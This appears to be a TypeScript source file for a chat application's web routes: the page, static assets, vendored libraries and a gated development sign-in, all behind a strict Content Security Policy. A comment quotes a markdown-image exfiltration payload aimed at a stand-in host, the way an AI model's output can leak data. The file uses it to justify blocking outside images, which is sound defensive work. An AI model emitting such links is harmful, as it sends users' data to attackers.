import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { Hono, type Context } from 'hono';
import { z } from 'zod';
import { AppError } from '../../errors.ts';
import { signUserToken } from '../auth.ts';
import { readJsonBody } from '../validate.ts';
import { projectPath } from '../../project-root.ts';
import { limitBody } from '../body-limit.ts';

/**
 * The page may load only from this origin: no inline script or style, no image from elsewhere
 * (model output `![](https://evil.example/?d=…)` issues no request: reliability A7), no framing.
 */
export const PAGE_CSP =
  "default-src 'self'; img-src 'self' data:; connect-src 'self'; script-src 'self'; style-src 'self'; " +
  "frame-ancestors 'none'; base-uri 'none'; form-action 'self'";

const WEB_DIR = projectPath('web') + '/';
const require = createRequire(import.meta.url);

/** The only files served from node_modules: `/vendor/<name>` → a browser ESM build next to the package's entry. */
const VENDOR_FILES: Record<string, { pkg: string; file: string }> = {
  'marked.esm.js': { pkg: 'marked', file: 'marked.esm.js' },
  'purify.es.mjs': { pkg: 'dompurify', file: 'purify.es.mjs' },
  'eventsource-parser.js': { pkg: 'eventsource-parser', file: 'index.js' },
};

const CONTENT_TYPES: Record<string, string> = {
  js: 'text/javascript; charset=utf-8',
  mjs: 'text/javascript; charset=utf-8',
  css: 'text/css; charset=utf-8',
  svg: 'image/svg+xml',
};

/** `/app/<name>.<ext>`: one plain file name, no folders, no dots but the extension's. */
const APP_FILE = /^[a-z0-9][a-z0-9-]*\.(js|css|svg)$/;

export const devLoginBodySchema = z
  .object({
    user: z.string().min(1, 'must not be empty').max(64, 'at most 64 characters').regex(/^[\w.@-]+$/, 'letters, digits, _ . @ - only'),
  })
  .strict();

export interface WebRouteDeps {
  /** Signs development sign-in tokens; absent when only the identity provider's tokens are trusted. */
  jwtSecret: string | undefined;
  /** Outside production only: `POST /auth/dev-login` issues a token for any user name. */
  devLogin: boolean;
}

/** The chat page at `/`, its files under `/app/*`, the vendored libraries under `/vendor/*`, and the development sign-in. */
export function webRoutes(deps: WebRouteDeps) {
  const vendorCache = new Map<string, Buffer>();

  return new Hono()
    .get('/', async (c) => {
      const html = await readFile(join(WEB_DIR, 'index.html'), 'utf8');
      securityHeaders(c);
      c.header('cache-control', 'no-cache');
      return c.html(html.replace('data-dev-login="off"', `data-dev-login="${deps.devLogin ? 'on' : 'off'}"`));
    })
    .get('/app/:file', async (c) => {
      const name = c.req.param('file');
      if (!APP_FILE.test(name)) throw notFound(c);
      let body: Buffer;
      try {
        body = await readFile(join(WEB_DIR, 'app', name));
      } catch {
        throw notFound(c);
      }
      securityHeaders(c);
      c.header('content-type', CONTENT_TYPES[name.split('.').pop()!]!);
      c.header('cache-control', 'no-cache');
      return c.body(new Uint8Array(body));
    })
    .get('/vendor/:file', async (c) => {
      const name = c.req.param('file');
      const entry = Object.hasOwn(VENDOR_FILES, name) ? VENDOR_FILES[name] : undefined;
      if (!entry) throw notFound(c);
      let body = vendorCache.get(name);
      if (!body) {
        body = await readFile(join(dirname(require.resolve(entry.pkg)), entry.file));
        vendorCache.set(name, body);
      }
      securityHeaders(c);
      c.header('content-type', CONTENT_TYPES.js!);
      c.header('cache-control', 'public, max-age=3600');
      return c.body(new Uint8Array(body));
    })
    .post(
      '/auth/dev-login',
      async (c, next) => {
        if (!deps.devLogin || !deps.jwtSecret) throw notFound(c);
        await next();
      },
      limitBody(4096, () => { throw new AppError('PAYLOAD_TOO_LARGE', 'The body is larger than 4 KB.'); }),
      async (c) => {
        const { user } = await readJsonBody(c, devLoginBodySchema);
        c.header('cache-control', 'no-store');
        return c.json({ token: await signUserToken(deps.jwtSecret!, user, '12h') });
      },
    );
}

function securityHeaders(c: Context): void {
  c.header('content-security-policy', PAGE_CSP);
  c.header('x-content-type-options', 'nosniff');
  c.header('referrer-policy', 'same-origin');
}

const notFound = (c: Context) => new AppError('NOT_FOUND', `No route for ${c.req.method} ${c.req.path}.`);
